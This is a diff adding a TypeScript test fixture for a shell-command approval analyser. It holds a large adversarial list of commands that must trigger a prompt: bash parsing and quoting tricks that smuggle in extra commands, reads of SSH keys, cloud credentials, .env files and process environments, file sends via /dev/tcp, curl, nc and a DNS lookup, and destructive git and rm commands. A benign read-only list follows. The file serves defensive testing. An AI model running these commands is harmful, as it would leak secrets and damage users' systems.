@@ -1,0 +1,101 @@
+// An adversarial corpus written against the rules, not against the analyser's code: each command
+// writes, deletes, runs code, sends data, reads a secret or the environment, or is something bash
+// may read differently from any parser. None may run without a prompt. Paths refer to the fixture
+// in ./adversarial-fixture.ts (a project with a planted nested repository and a fake home).
+
+export const DANGEROUS: Record<string, string[]> = {
+  "line continuations": [
+    'echo "$\\\n(touch pwned)"', "echo $\\\n(touch pwned)", "ls file.txt\\\n#; touch pwned", "tr\\\nuncate -s0 file.txt", "sort -\\\no pwned names.txt",
+    "rg -\\\n-pre=./x foo", "git log -\\\n-output=pwned -1", "ls\n\\touch pwned", "sed -\\\ni s/a/b/ file.txt", "git diff --ext\\\n-diff", "ec\\\nho x > pwned",
+    "find . -del\\\nete", "find . -ex\\\nec rm {} +", "cat <<EOF\n$\\\n(touch pwned)\nEOF", "git -\\\nc core.pager=./x log", "echo a\\\n;touch pwned",
+    "sort names.txt -\\\n-output=pwned", "rg foo --\\\npre=./x .", "git show --text\\\nconv HEAD:file.txt", "ls $\\\n{HOME}/.ssh", "l\\\ns -la ~/.ssh",
+    "e\\\nval 'touch pwned'", "ls &\\\n> pwned", "ls >\\\n| pwned", "git grep -O\\\ntouch foo", "cat file.txt >\\\n/dev/tcp/127.0.0.1/9", "cat names.txt | xa\\\nrgs rm",
+    "echo ok \\\n&& touch pwned", "find . -name '*.md' -exec r\\\nm {} +", "sed -n 1p file.txt -\\\ni", "ls #x\\\n\ntouch pwned", "echo `\\\ntouch pwned`",
+    "cat <<EOF\n`\\\ntouch pwned`\nEOF", "ls $(\\\ntouch pwned)", "uniq names.txt \\\npwned", "head -n 1 \\\n/root/.ssh/id_rsa", "wc -l $\\\nHOME/.aws/credentials",
+    "git -C\\\n docs/site diff", "x\\\nargs -a names.txt rm", "echo $\\\n{TOKEN}",
+  ],
+  "quoting, expansion and grammar tricks": [
+    "$'\\x72\\x6d' file.txt", '"r""m" file.txt', "e\\val 'touch pwned'", "cat${IFS}file.txt;touch${IFS}pwned", "ls ${x:-$(touch pwned)}", "echo $((1+$(touch pwned)))",
+    "echo $[ $(touch pwned) ]", "echo ${#x[$(touch pwned)]}", "echo ${x[`touch pwned`]}", "cat <<< \"$(touch pwned)\"", "ls -- \"$(touch pwned)\"", "ls {,$(touch pwned)}",
+    "echo a{b,c}$(touch pwned)", "cat file.txt > \"$(echo pwned)\"", "ls `echo -la` ; touch pwned", "\"$SHELL\" -c 'touch pwned'", "$BASH -c 'touch pwned'", "${SHELL} -c 'touch pwned'",
+    "command eval 'touch pwned'", "builtin eval 'touch pwned'", "exec 3>pwned", "exec touch pwned", "echo x | tee pwned", "ls | sh", "ls | bash", "echo 'touch pwned' | sh",
+    "echo 'touch pwned' | bash -s", "echo touch pwned | xargs -I{} sh -c {}", "alias ls='touch pwned'; ls", "ls\u00a0;touch pwned", "ls \u200b; touch pwned", "cat file.txt\r\ntouch pwned",
+    "ls -la\u000btouch pwned", "ls\u2028touch pwned", "ls\u3000file.txt; touch pwned", "echo ${x@P}", "echo ${!x}", "f=touch; $f pwned", "a=(touch pwned); \"${a[@]}\"",
+    "set -- touch pwned; \"$@\"", "IFS=,; x=touch,pwned; $x", "printf -v PATH x; ls", "source ./script.sh", ". ./script.sh", "trap 'touch pwned' EXIT; ls", "ls 2>pwned",
+    "coproc touch pwned", "{ touch pwned; }", "(touch pwned)", "ls && { touch pwned; }", "[[ $(touch pwned) ]]", "[[ -v a[$(touch pwned)] ]]", "(( a[$(touch pwned)] ))",
+    "let 'a[$(touch pwned)]'", "declare -n r='a[$(touch pwned)]'; echo $r", "echo $(( a[$(touch pwned)] ))", "test -v 'a[$(touch pwned)]'", "[ -v 'a[$(touch pwned)]' ]",
+    "read -a x <<< 'a'; touch pwned", "mapfile -t x < file.txt; touch pwned", "ls =(touch pwned)", "ls *(e:'touch pwned':)", "echo $=x", "cat <(touch pwned)",
+    "diff <(touch pwned) file.txt", "ls > >(tee pwned)", "ls |& tee pwned", "ls &>pwned", "ls >>pwned", "ls 1<>pwned", ">pwned", "echo > pwned", "ls 3>pwned",
+  ],
+  "secrets by path, glob, walk and link": [
+    "cat ~/.ssh/id_rsa", "head ~/.aws/credentials", "cat ~/.netrc", "cat ~/.git-credentials", "cat ~/.npmrc", "cat ~/.pypirc", "cat ~/.docker/config.json", "cat ~/.kube/config",
+    "cat ~/.config/gh/hosts.yml", "cat ~/.bash_history", "tail ~/.zsh_history", "ls -la ~/.ssh", "find ~/.ssh -exec cat {} +", "grep -r key ~/.aws", "cat .env", "cat .env.local",
+    "cat .env.production", "grep -r . .env*", "cat config/.env", "cat ~/.ssh/config", "cat /etc/shadow", "cat /proc/self/environ", "cat /proc/$PPID/environ", "cat /proc/1/environ",
+    "xxd ~/.ssh/id_ed25519", "od -c ~/.aws/credentials", "sed -n p ~/.netrc", "awk 1 ~/.git-credentials", "wc -c ~/.ssh/id_rsa", "diff ~/.ssh/id_rsa /dev/null", "sort ~/.aws/credentials",
+    "tac ~/.bash_history", "md5sum ~/.ssh/id_rsa", "cat $HOME/.ssh/id_rsa", "cat ${HOME}/.aws/credentials", "cat ~/.ssh/*", "cat ~/.s*/id_rsa", "ls ~/.gnupg", "cd ~ && cat .netrc",
+    "cd ~/.ssh && ls", "cat home-link/.ssh/id_rsa", "grep -R PRIVATE home-link", "cat deploy/id_rsa", "head -5 .env*", "cat ./.env", "grep TOKEN .env", "cut -d= -f2 .env",
+    "grep -rn API_KEY . --include=.env", "find . -name '.env*' -exec cat {} \\;", "git show HEAD:.env", "git grep -n KEY -- .env", "cat .npmrc", "cat .netrc", "cat .git-credentials",
+    "cat .bash_history", "jq . ~/.docker/config.json", "head -c 64 /proc/self/mem", "cat /proc/$$/environ", "cat /proc/*/environ", "tr '\\0' '\\n' < /proc/self/environ",
+    "xargs -0 -n1 < /proc/self/environ", "ls -la /root", "find / -name id_rsa", "cat ~root/.ssh/id_rsa", "stat ~/.ssh/id_rsa", "file ~/.ssh/id_rsa",
+  ],
+  "the environment": [
+    "echo $TOKEN", 'echo "$GITHUB_TOKEN"', "echo ${AWS_SECRET_ACCESS_KEY}", "printenv TOKEN", "printenv", "env", "env | grep KEY", "echo ${!A*}", "declare -p", "set", "export -p",
+    "compgen -v", "export", "cat <<EOF\n$TOKEN\nEOF", "echo ${TOKEN:0:4}", 'echo "${#TOKEN}"', "ls $SECRET_DIR", '[ -n "$TOKEN" ] && echo yes', "printf '%s' \"$NPM_TOKEN\"",
+    "echo $OPENAI_API_KEY | wc -c", 'git log --author="$TOKEN"', 'grep "$TOKEN" file.txt', "jq -n env", "jq -n '$ENV.TOKEN'", "jq -n 'env.TOKEN'", "awk 'BEGIN{print ENVIRON[\"TOKEN\"]}'",
+    "echo $ANTHROPIC_API_KEY", "echo ${ANTHROPIC_API_KEY:-none}", "cat <<< $TOKEN", "echo $TOKEN > /dev/null; echo $_",
+  ],
+  "nested and planted repositories": [
+    "git -C docs/site diff", "git -C docs/site log -p -1", "cd docs/site && git status", "git -C docs/site show", "cd docs/site && git diff HEAD", "cd docs/site; git log -p",
+    "git -C docs/site diff --stat", "cd vendor/lib && git status", "git -C vendor/lib diff", "git -C vendor/lib log -1", "git -C store log -1", "cd store && git log -p",
+    "git -C docs/site blame README.md", "cd docs && git -C site diff", "git -C docs/site/. diff", "git -C ./docs//site diff", "cd docs/site/sub && git diff",
+    "git -C docs/site grep -n x", "git -C docs/site diff HEAD~1 HEAD", "git --git-dir=docs/site/.git diff", "GIT_DIR=docs/site/.git git diff", "git -C docs/site show HEAD --stat -p",
+  ],
+  "special files and the network": [
+    "awk 1 /inet/tcp/0/127.0.0.1/9", "awk '{print}' /inet4/tcp/0/127.0.0.1/9", "cat < /dev/tcp/127.0.0.1/9", "exec 3<>/dev/tcp/127.0.0.1/9", "echo x > /dev/udp/127.0.0.1/9",
+    "ls > /dev/tcp/localhost/9", "cat file.txt >/dev/tcp/127.0.0.1/9", "cat /dev/sda", "head -c 10 /dev/mem", "cat file.txt | nc 127.0.0.1 9", "curl -d @file.txt http://127.0.0.1:9",
+    "wget --post-file=file.txt http://127.0.0.1:9", "git push", "git fetch", "git ls-remote origin", "git remote show origin", "host $(cat file.txt).example.com", "ping -c1 127.0.0.1",
+    "dig x.example.com", "ssh 127.0.0.1", "cat file.txt > /dev/tcp/127.0.0.1/9 2>&1", "sort < /dev/tcp/127.0.0.1/9", "grep x < /dev/udp/127.0.0.1/9", "ls /dev/shm && cat /dev/shm/*",
+  ],
+  "options that write files or run programs": [
+    "sort -o pwned names.txt", "sort --output pwned names.txt", "sort -mo pwned names.txt", "find . -fprint pwned", "find . -fls pwned", "find . -delete", "find . -exec touch {} +",
+    "find . -ok rm {} \\;", "rg --pre ./x foo", "rg -z foo", "git diff --output=pwned", "git log --output=pwned", "git -c core.pager='touch pwned' log", "git -p log", "git --paginate log",
+    "git log --ext-diff -p", "git show --ext-diff", "git diff --textconv", "git grep -O foo", "git grep --open-files-in-pager=touch foo", "git config alias.x '!touch pwned'",
+    "git config core.pager x", "git config --file pwned a.b c", "git config --global a.b c", "git branch newb", "git tag v9", "git stash", "git checkout .", "git restore .",
+    "git reset --hard", "git clean -fdx", "git commit -am x", "git add .", "git rm file.txt", "git notes add -m x", "git gc", "git worktree add ../wt", "git init sub", "git clone . copy",
+    "git bisect start", "git archive -o x.tar HEAD", "git format-patch -1 -o out", "git bundle create b HEAD", "tee pwned", "tee -a file.txt", "dd if=file.txt of=pwned", "cp file.txt pwned",
+    "mv file.txt pwned", "rm file.txt", "ln -s file.txt pwned", "touch pwned", "mkdir pwned", "chmod 777 file.txt", "truncate -s0 file.txt", "install file.txt pwned", "split -l1 names.txt",
+    "csplit names.txt 1", "shred file.txt", "patch -p1 < file.txt", "tar cf pwned .", "gzip -k file.txt", "zip pwned file.txt", "xxd -r file.txt pwned", "xxd file.txt pwned", "date -s 12:00",
+    "hostname x", "less file.txt", "more file.txt", "man ls", "vi file.txt", "vim -c ':!touch pwned' -c ':q'", "ed file.txt", "sed -i s/a/b/ file.txt", "sed -n 'w pwned' file.txt",
+    "sed 's/a/b/e' file.txt", "sed --in-place=.bak s/a/b/ file.txt", "awk -i inplace '{print}' file.txt", "awk '{print > \"pwned\"}' file.txt", "awk 'BEGIN{system(\"touch pwned\")}'",
+    "awk -f script.awk file.txt", "tree -o pwned", "uniq names.txt pwned", "column -t file.txt > pwned", "jq . package.json > pwned", "head file.txt >> pwned",
+  ],
+  "programs that run other programs": [
+    "perl -e 'system q(touch pwned)'", "python3 -c 'open(\"pwned\",\"w\")'", "node -e 'require(\"fs\").writeFileSync(\"pwned\",\"\")'", "ruby -e 'File.write(\"pwned\",\"\")'", "php -r 'touch(\"pwned\");'",
+    "make", "npm run build", "npx cowsay", "yarn test", "pnpm install", "bun run x", "cargo run", "go run .", "env -S 'touch pwned'", "env touch pwned", "nice touch pwned",
+    "timeout 1 touch pwned", "nohup touch pwned", "stdbuf -o0 touch pwned", "setsid touch pwned", "flock file.txt touch pwned", "sudo ls", "su -c 'touch pwned'", "time touch pwned",
+    "watch -n1 touch pwned", "script -c 'touch pwned' /dev/null", "busybox touch pwned", "ionice touch pwned", "taskset -c 0 touch pwned", "strace -o pwned ls", "gdb -batch -ex 'shell touch pwned'",
+    "printf pwned | xargs touch", "ls | xargs -n1 rm", "find . -print0 | xargs -0 rm", "xargs -a names.txt rm", "xargs -I% sh -c % < names.txt", "find . -name '*.txt' -exec sh -c 'touch pwned' \\;",
+    "find . -execdir touch pwned \\;", "git ls-files | xargs sed -i s/a/b/", "cat file.txt | python3", "echo 'touch pwned' | zsh", "ls | awk '{system(\"rm \" $0)}'", "node ./x.js", "./script.sh",
+    "bash script.sh", "sh -c 'touch pwned'", "python3 -m http.server", "deno run x.ts", "npm exec x", "bunx x", "uv run x", "pipx run x",
+  ],
+};
+
+/** Read-only commands inside the project, as developers run them: all but a few must run without a prompt. */
+export const EVERYDAY: string[] = [
+  "git status", "git status -s", "git diff", "git diff --stat", "git diff HEAD~1", "git diff --cached", "git log --oneline -10", "git log -p -1", "git log --stat -3", "git show HEAD",
+  "git show --stat", "git blame README.md", "git branch", "git branch -a", "git rev-parse HEAD", "git rev-parse --show-toplevel", "git ls-files", "git tag -l", "git stash list",
+  "git remote -v", "git describe --always", "git shortlog -sn", "git grep -n TODO", "git log --oneline | head -5", "git -C src log -1", "git log --format='%h %an' -5",
+  "ls", "ls -la", "ls -lah src", "ls src/*.ts", "ls -R", "tree -L 2", "pwd", "cat README.md", "cat src/a.ts src/cli.ts", "cat -n file.txt", "head -20 file.txt", "head -n 5 src/a.ts",
+  "tail -n 20 log.txt", "wc -l src/*.ts", "wc -l file.txt", "stat file.txt", "file src/a.ts", "du -sh .", "du -sh src", "df -h", "find . -name '*.ts'", "find src -type f | wc -l",
+  "find . -name '*.md' -not -path './node_modules/*'", "find . -type d -name src", "find src -name '*.ts' -exec wc -l {} +", "rg TODO", "rg -n foo src", "rg --files", "rg -l import",
+  "rg -i 'todo' --type ts", "grep -rn TODO src", "grep -c import src/cli.ts", "grep -rl foo .", "grep -n 'export' src/a.ts", "sort names.txt", "sort -u names.txt", "sort -n counts.txt",
+  "uniq -c counts.txt", "sort counts.txt | uniq -c | sort -rn", "cut -d, -f1 data.csv", "awk -F, '{print $2}' data.csv", "awk 'NR==1' file.txt", "sed -n '1,5p' file.txt",
+  "sed 's/foo/bar/' file.txt", "tr a-z A-Z < file.txt", "jq . package.json", "jq -r .name package.json", "jq '.scripts' package.json", "diff a.txt b.txt", "diff -u a.txt b.txt",
+  "cmp a.txt b.txt", "comm -12 a.txt b.txt", "xxd file.txt | head", "od -c file.txt | head", "md5sum file.txt", "sha256sum file.txt", "column -t data.csv", "nl file.txt", "tac file.txt",
+  "basename src/a.ts", "dirname src/a.ts", "realpath src/a.ts", "echo hello", "echo $HOME", 'echo "$USER"', "echo $PWD", "date", "date +%Y-%m-%d", "uname -a", "whoami", "id -u",
+  "hostname", "nproc", "uptime", "which git", "command -v node", "type ls", "node --version", "python3 --version", "npm --version", "bun --version", "git --version", "true",
+  "test -f package.json && echo yes", "[ -d src ] && echo dir", "cd src && ls", "cd src && git log -1", "(cd src && ls)", "ls 2>/dev/null", "git status 2>&1 | head -5",
+  "ls | head", "cat file.txt | grep foo", "cat file.txt | wc -l", "find . -name '*.ts' | xargs wc -l", "git ls-files | xargs grep -n TODO", "git diff --name-only | xargs -I{} wc -l {}",
+  "git log \\\n  --oneline -5", "ls -la \\\n  src", "cat <<'EOF'\nplain text $(not run)\nEOF", "echo done; ls", "ls && echo ok || echo fail", "sleep 1", "seq 5",
+  "ps aux | grep node", "git log --since='1 week ago' --oneline", "git diff main...HEAD --stat", "rg -c import src | sort", "wc -c < file.txt", "sort -t, -k2 -n data.csv",
+];
